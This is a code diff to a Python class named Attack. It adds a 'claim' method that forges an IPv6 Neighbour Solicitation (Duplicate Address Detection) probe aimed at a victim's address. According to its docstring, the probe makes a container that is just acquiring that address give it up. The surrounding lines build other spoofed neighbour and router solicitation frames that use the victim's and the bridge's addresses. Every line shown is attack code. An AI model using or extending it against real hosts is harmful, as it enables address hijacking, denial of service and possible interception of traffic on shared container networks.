@@ -227,6 +227,13 @@ class Attack:
         body = b"\0\0\0\0" + packed(self.bridge["v6"]) + b"\x01\x01" + mac(self.me["mac"])
         return ether(self.me["mac"], self.bridge["mac"], 0x86DD, neighbour(135, self.victim["v6"], self.bridge["v6"], body))
 
+    def claim(self):
+        """Who is about to take the victim's address asks so whether it is free; a container that is just getting it gives it up then."""
+        low = packed(self.victim["v6"])[-3:]
+        group = socket.inet_ntop(socket.AF_INET6, packed("ff02::1:ff00:0")[:13] + low)
+        target = "33:33:ff" + "".join(f":{byte:02x}" for byte in low)
+        return ether(self.me["mac"], target, 0x86DD, neighbour(135, "::", group, b"\0\0\0\0" + packed(self.victim["v6"])))
+
     def router_solicit(self):
         body = b"\0\0\0\0" + b"\x01\x01" + mac(self.me["mac"])
         return ether(self.me["mac"], "33:33:00:00:00:02", 0x86DD, neighbour(133, self.victim["v6"], "ff02::2", body))
